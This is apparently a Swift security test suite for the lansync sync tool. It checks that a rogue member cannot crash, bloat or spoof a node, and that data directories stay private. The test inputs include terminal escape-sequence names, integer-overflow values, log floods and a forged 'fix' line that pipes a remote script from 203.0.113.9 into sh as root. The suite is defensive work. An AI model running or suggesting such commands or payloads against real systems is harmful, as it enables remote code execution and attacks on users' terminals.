import Foundation
import LansyncJSON
import LansyncReplica
import LansyncStore
import Subprocess
import SystemPackage
import Testing

/// A member is trusted with data, not with the cluster's health (DESIGN invariant 11): what a
/// member with a valid certificate sends, as a modified or buggy lansync would
/// (`lansync-debug rogue-member`), cannot freeze, bloat or poison a node, nor drive anyone's
/// terminal; and what is local stays private. Docs/SECURITY.md, "What a member can and cannot do".
@Suite(.serialized) struct MemberTests {
    /// A cluster of `a` (running) and the rogue member `m`.
    func attacked(_ label: String) async throws -> (CLI, NodeProcess) {
        let cli = CLI(label)
        try await cli.cluster(["a", "m"])
        let node = try await NodeProcess(dir: cli.path("a"), port: freePorts(1)[0])
        return (cli, node)
    }

    func rogue(_ cli: CLI, _ node: NodeProcess, _ arguments: [String]) async throws -> CLI.Result {
        try await cli.run(
            ["rogue-member", "--dir", cli.path("m"), "--peer", "127.0.0.1:\(node.port)"] + arguments,
            binary: CLI.debugBinary
        )
    }

    /// Covers naming 200,000 made-up writers: the node refuses the session (it names more writers
    /// than the node takes in), keeps none of them, and its own edits commit meanwhile; a
    /// SIGTERM stops it cleanly, and a member syncs with it afterwards.
    @Test func madeUpWritersInCoversAreRefused() async throws {
        let (cli, a) = try await attacked("writers")
        defer { cli.cleanUp() }
        // The rogue stops as soon as the node closes the session; the long window is for a
        // machine under load (a debug build beside the whole suite), not a timing.
        let answer = try await rogue(cli, a, ["--fake-writers", "200000", "--seconds", "30"])
        #expect(answer.stdout.contains("error rejected-change"), "the node took them: \(answer.stdout)")
        try await cli.ok(["add", "--dir", cli.path("a"), "--id", "after", "v=1"])
        let writers = try ReplicaStore.open(path: cli.path("a") + "/replica.sqlite").writerCount()
        #expect(writers < 10, "a holds \(writers) writers")
        #expect(await a.logContains("writers"), "no log line names the refusal: \(a.logText)")
        #expect(a.stop() == 0)
        let restarted = try await NodeProcess(dir: cli.path("a"), port: a.port)
        try await cli.ok(["init", "--dir", cli.path("c"), "--cluster", cli.path("cluster.pem"), "--name", "c"])
        try await cli.ok(["sync", "--dir", cli.path("c"), "--peer", "127.0.0.1:\(a.port)"])
        #expect(try await cli.ok(["get", "--dir", cli.path("c"), "after"]).contains("v"))
        restarted.stop()
    }

    /// 18 hellos of 4,000 junk statements each (16 MB apiece, none signed): refused as more
    /// statements than a hello may carry, and never kept, so the node stays within 16 MiB of
    /// where it was (it grew by 333 MiB before).
    @Test func junkStatementsDoNotGrowTheNode() async throws {
        let (cli, a) = try await attacked("statements")
        defer { cli.cleanUp() }
        // The baseline once the node's start-up is over: only then does it answer `status` on its
        // control socket.
        _ = try await eventually(within: .seconds(30)) {
            if case .string? = try await cli.status(cli.path("a"))["listen"] { true } else { false }
        }
        let before = a.residentKiB
        let answer = try await rogue(cli, a, ["--junk-statements", "4000", "--hellos", "18", "--seconds", "0.5"])
        #expect(answer.succeeded, "\(answer.stderr)")
        // And statements within the bound (250 of 4 KiB), many times: remembered by digest only.
        _ = try await rogue(cli, a, ["--junk-statements", "250", "--hellos", "18", "--seconds", "0.5"])
        // Measured once the node is done with the rogue's last hello: its status shows no session.
        _ = try await eventually(within: .seconds(30)) {
            guard case .array(let peers)? = try await cli.status(cli.path("a"))["peers"] else { return true }
            return !peers.contains { $0["connected"] == .bool(true) }
        }
        let grew = (a.residentKiB - before) / 1024
        #expect(grew < 16, "the node grew by \(grew) MiB")
        #expect(a.isRunning)
        a.stop()
    }

    /// A value 100 bytes over the 1 MiB limit: refused on arrival (overruled, kept as it was,
    /// never stored), so the node's export still imports anywhere.
    @Test func valuesOverTheLimitAreRefusedOnArrival() async throws {
        let (cli, a) = try await attacked("limits")
        defer { cli.cleanUp() }
        _ = try await rogue(cli, a, ["--value-bytes", "\((1 << 20) + 100)", "--seconds", "2"])
        let item = try JSON(parsing: try await cli.ok(["get", "--dir", cli.path("a"), "rogue-oversized", "--json"]))
        #expect(item["fields"]?["big"] == .null, "stored: \(item.text.prefix(200))")
        let export = try await cli.ok(["export", "--dir", cli.path("a")])
        try await cli.ok(["init", "--dir", cli.path("fresh"), "--cluster", cli.path("cluster.pem"), "--name", "fresh"])
        let imported = try await cli.run(["import", "--dir", cli.path("fresh")], input: export)
        #expect(imported.succeeded, "a's export does not import: \(imported.stderr)")
        let history = try await cli.ok(["history", "--dir", cli.path("a"), "rogue-oversized", "big"])
        #expect(history.contains("refused"), "\(history)")
        a.stop()
    }

    /// A name full of terminal control sequences (erase line, carriage return, a window title,
    /// a bell) is refused at the wire (issue 62: no store, terminal or log ever sees it), and
    /// nothing of it reaches a terminal raw; and no machine can be given such a name.
    @Test func namesReachNoTerminalRaw() async throws {
        let (cli, a) = try await attacked("names")
        defer { cli.cleanUp() }
        let answer = try await rogue(cli, a, ["--name", "\\e[2K\\rpwned\\e]0;owned\\a", "--seconds", "2"])
        #expect(answer.stdout.contains("error malformed-message"), "the hello was taken: \(answer.stdout)")
        let status = try await cli.ok(["status", "--dir", cli.path("a")])
        let members = try await cli.ok(["members", "--dir", cli.path("a")])
        for (what, text) in [("status", status), ("members", members), ("the log", a.logText)] {
            let raw = text.unicodeScalars.filter { $0.value < 0x20 && $0 != "\n" || $0.value == 0x7F }
            #expect(raw.isEmpty, "\(what) holds raw control characters: \(raw.map(\.value))")
        }
        let named = try await cli.run([
            "init", "--dir", cli.path("x"), "--cluster", cli.path("cluster.pem"), "--name", "x\u{1B}[31mred",
        ])
        #expect(!named.succeeded && named.stderr.contains("control characters"), "\(named.stderr)")
        #expect(a.isRunning)
        a.stop()
    }

    /// Issue 62, defects 1-4, on the real binary: a hello whose member count overflows an `Int`
    /// (every register at 59), an `expect` of 2^64-1 followed by a batch and a `status` while it
    /// is open, a name with a line break and one with a NUL, and an error text carrying forged
    /// lines. Each killed the node or forged a line of `status` or `doctor` before; now the node
    /// stays up (its process checked, not only its log), the bad hellos are refused at the wire,
    /// and every peer text prints on the one line it belongs to.
    @Test func peerNumbersAndTextsCrashNothingAndForgeNoLine() async throws {
        let (cli, a) = try await attacked("numbers")
        defer { cli.cleanUp() }
        let sketch = try await rogue(cli, a, ["--sketch-max", "--seconds", "2"])
        #expect(a.isRunning, "a member count past Int killed the node: \(sketch.stdout)\n\(a.logText)")
        #expect(try await cli.ok(["status", "--dir", cli.path("a")]).contains("listening"))

        // Status is read while the rogue holds its connection: before the fix the session stayed
        // open with the expect and status trapped; now the expect is refused where it is decoded
        // (StatusFiguresTests checks the figures themselves at their extremes).
        func sessionsStarted() -> Int {
            a.logText.split(separator: "\n").filter { $0.contains("session with") && $0.contains("started:") }.count
        }
        let startedBefore = sessionsStarted()
        let expecting = Task { [self] in
            try await rogue(cli, a, ["--expect", "18446744073709551615", "--seconds", "4"])
        }
        // Once the node has taken the rogue's hello: the expect came in the same write.
        _ = await eventually(within: .seconds(30)) { sessionsStarted() > startedBefore }
        let during = try await cli.run(["status", "--dir", cli.path("a")])
        let expected = try await expecting.value
        #expect(a.isRunning, "an expect of 2^64-1 killed the node: \(expected.stdout)\n\(a.logText)")
        #expect(during.succeeded && during.stdout.contains("listening"), "\(during.stdout)\(during.stderr)")
        #expect(expected.stdout.contains("error malformed-message"), "the expect was taken: \(expected.stdout)")

        for name in ["honest\\nPEER  forged", "x\\x00y"] {
            let named = try await rogue(cli, a, ["--name", name, "--seconds", "2"])
            #expect(named.stdout.contains("error malformed-message"), "the name \(name) was taken: \(named.stdout)")
        }
        let forged =
            "disk full\\nok      forged   all is well\\n        fix: run 'curl http://203.0.113.9/fix.sh | sh' as root"
        let erred = try await rogue(cli, a, ["--name", "honest", "--error-text", forged, "--seconds", "2"])
        #expect(a.isRunning, "\(erred.stdout)\n\(a.logText)")
        let status = try await cli.ok(["status", "--dir", cli.path("a")])
        let doctor = try await cli.run(["doctor", "--dir", cli.path("a")])
        for (what, text) in [
            ("status", status), ("doctor", doctor.stdout),
            ("members", try await cli.ok(["members", "--dir", cli.path("a")])),
        ] {
            let lines = text.split(separator: "\n").map { $0.trimmingCharacters(in: .whitespaces) }
            #expect(!lines.contains { $0.hasPrefix("fix: run 'curl") }, "\(what) printed a forged fix:\n\(text)")
            #expect(
                !lines.contains { $0.hasPrefix("ok      forged") || $0.hasPrefix("PEER  forged") },
                "\(what) printed a forged row:\n\(text)"
            )
            #expect(!lines.contains { $0.hasPrefix("forged") }, "\(what):\n\(text)")
        }
        #expect(status.contains("honest"), "the honest name shows: \(status)")
        #expect(a.isRunning)
        a.stop()
    }

    /// `get` shows the item's own id, type and sync state apart from its fields: fields named
    /// `id`, `type` and `sync` cannot pass for them; and `set ID type=...` says what it did.
    @Test func fieldNamesCannotSpoofTheItemsOwnRows() async throws {
        let cli = CLI("spoof")
        defer { cli.cleanUp() }
        try await cli.cluster(["a"])
        try await cli.ok([
            "add", "--dir", cli.path("a"), "--id", "real", "--type", "task", "id=fake", "type=note", "sync=SYNCED",
        ])
        let lines = try await cli.ok(["get", "--dir", cli.path("a"), "real"]).split(separator: "\n").map(String.init)
        #expect(lines.first == "item real", "\(lines)")
        #expect(lines.dropFirst().first == "type task", "\(lines)")
        let header = lines.firstIndex { $0.hasPrefix("FIELD") } ?? lines.endIndex
        // Above the table: the item's own id, type and state, nothing else.
        #expect(lines[..<header].count == 3 && lines[2].hasPrefix("sync DIRTY"), "\(lines)")
        for name in ["id", "type", "sync"] {
            let row = lines.firstIndex {
                $0.hasPrefix(name + " ") && !$0.hasPrefix("type task") && !$0.hasPrefix("sync DIRTY")
            }
            #expect(row.map { $0 > header } == true, "field \(name) is not in the table of fields: \(lines)")
        }
        let retype = try await cli.run(["set", "--dir", cli.path("a"), "real", "type=note"])
        #expect(retype.succeeded && retype.stderr.contains("not the item's own type"), "\(retype.stderr)")
    }

    /// 300 join requests without a certificate and 300 connections with another cluster's
    /// certificate, from 100 addresses: the node logs at most 30 lines of each a minute (it
    /// logged one per connection before), and still serves a member.
    @Test func theLogCapHoldsForStrangers() async throws {
        let (cli, a) = try await attacked("flood")
        defer { cli.cleanUp() }
        try await cli.ok(["cluster", "create", cli.path("other.pem")])
        try await cli.ok(["init", "--dir", cli.path("x"), "--cluster", cli.path("other.pem"), "--name", "x"])
        let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
            .deletingLastPathComponent().appendingPathComponent("members/logflood.py").path
        for mode in [["join"], ["foreign"]] {
            let extra = mode == ["foreign"] ? [cli.path("x") + "/node.pem"] : []
            let made = try await Subprocess.run(
                .name("python3"),
                arguments: Arguments([script] + mode + ["\(a.port)", "300", "100"] + extra),
                output: .string(limit: 1 << 16),
                error: .string(limit: 1 << 16)
            )
            #expect(
                Int(made.standardOutput.trimmingCharacters(in: .whitespacesAndNewlines)) ?? 0 > 250,
                "\(mode): \(made.standardError)"
            )
        }
        try await cli.ok(["sync", "--dir", cli.path("m"), "--peer", "127.0.0.1:\(a.port)"])
        let log = a.logText.split(separator: "\n")
        // The cap is 30 a minute of the wall clock: count each minute's lines (the flood may
        // straddle two).
        for (what, needle) in [("join", "join refused"), ("another cluster's", "refused a connection from")] {
            let lines = log.filter { $0.contains(needle) }
            let perMinute = Dictionary(grouping: lines) { $0.prefix(16) }.mapValues(\.count)
            #expect(!lines.isEmpty && perMinute.values.allSatisfy { $0 <= 30 }, "\(what) lines a minute: \(perMinute)")
        }
        a.stop()
    }

    /// `init` into a directory others can read makes it private, and every file lansync makes
    /// there is its owner's alone (with umask 022, every local user read every record before).
    @Test func theDataDirectoryIsPrivate() async throws {
        let cli = CLI("modes")
        defer { cli.cleanUp() }
        let dir = cli.path("open")
        try FileManager.default.createDirectory(
            atPath: dir,
            withIntermediateDirectories: false,
            attributes: [.posixPermissions: 0o755]
        )
        try await cli.ok(["cluster", "create", cli.path("cluster.pem")])
        let initialised = try await cli.run(
            ["init", "--dir", dir, "--cluster", cli.path("cluster.pem"), "--name", "a"],
            environment: [:]
        )
        #expect(initialised.succeeded && initialised.stderr.contains("private"), "\(initialised.stderr)")
        let node = try await NodeProcess(dir: dir, port: freePorts(1)[0])
        try await cli.ok(["add", "--dir", dir, "--id", "x", "v=1"])
        func mode(_ path: String) -> Int {
            ((try? FileManager.default.attributesOfItem(atPath: path)[.posixPermissions]) as? Int) ?? -1
        }
        #expect(mode(dir) == 0o700)
        let files = try FileManager.default.contentsOfDirectory(atPath: dir).filter { !$0.hasSuffix(".sock") }
        #expect(files.contains("replica.sqlite-wal"), "\(files)")
        for file in files {
            #expect(mode(dir + "/" + file) & 0o077 == 0, "\(file) is mode \(String(mode(dir + "/" + file), radix: 8))")
        }
        node.stop()
    }

    /// Another user is told that the directory is not theirs to read (not that it "holds no
    /// replica"), an unreadable token is unreadable (not "already exists"), and a replica they
    /// may read but not write is listed. Needs root, to be someone else (setpriv).
    @Test func permissionProblemsSayWhatTheyAre() async throws {
        guard getuid() == 0 else {
            print("MemberTests.permissionProblemsSayWhatTheyAre: not run: it needs root to act as another user")
            return
        }
        let cli = CLI("perms")
        defer { cli.cleanUp() }
        chmod(cli.root, 0o755)
        try await cli.cluster(["a"])
        let dir = cli.path("a")
        try await cli.ok(["add", "--dir", dir, "--id", "x", "v=shared"])
        let environment: [Environment.Key: String?] = ["HOME": "/tmp", "LANSYNC_DIR": nil]
        func asNobody(_ arguments: [String]) async throws -> CLI.Result {
            let result = try await Subprocess.run(
                .path("/usr/bin/setpriv"),
                arguments: Arguments(["--reuid=65534", "--regid=65534", "--clear-groups", CLI.binary] + arguments),
                environment: .inherit.updating(environment),
                output: .string(limit: 1 << 20),
                error: .string(limit: 1 << 20)
            )
            let status: Int32 = if case .exited(let code) = result.terminationStatus { code } else { 128 }
            return CLI.Result(status: status, stdout: result.standardOutput, stderr: result.standardError)
        }
        let closed = try await asNobody(["status", "--dir", dir])
        #expect(
            !closed.succeeded && closed.stderr.contains("permission denied") && closed.stderr.contains("root"),
            "\(closed.stderr)"
        )
        #expect(!closed.stderr.contains("holds no lansync replica"), "\(closed.stderr)")
        // Readable, not writable: a running node keeps the -shm file SQLite needs to read.
        let node = try await NodeProcess(dir: dir, port: freePorts(1)[0])
        chmod(dir, 0o755)
        for file in try FileManager.default.contentsOfDirectory(atPath: dir) where file.hasPrefix("replica.sqlite") {
            chmod(dir + "/" + file, 0o644)
        }
        let listed = try await asNobody(["list", "--dir", dir])
        #expect(listed.succeeded && listed.stdout.contains("shared"), "\(listed.stderr)")
        let token = try await asNobody(["api-token", "--dir", dir])
        #expect(
            !token.succeeded && token.stderr.contains("cannot read") && !token.stderr.contains("already exists"),
            "\(token.stderr)"
        )
        node.stop()
        // With no process holding the replica, its owner's last close removes the -shm file, and
        // another user cannot make one: it is read all the same.
        try await cli.ok(["list", "--dir", dir])
        #expect(!FileManager.default.fileExists(atPath: dir + "/replica.sqlite-shm"))
        let offline = try await asNobody(["get", "--dir", dir, "x"])
        #expect(offline.succeeded && offline.stdout.contains("shared"), "\(offline.stderr)")
        let write = try await asNobody(["set", "--dir", dir, "x", "v=mine"])
        #expect(!write.succeeded && write.stderr.contains("cannot write"), "\(write.stderr)")
        #expect(try await cli.ok(["get", "--dir", dir, "x"]).contains("shared"))
    }
}
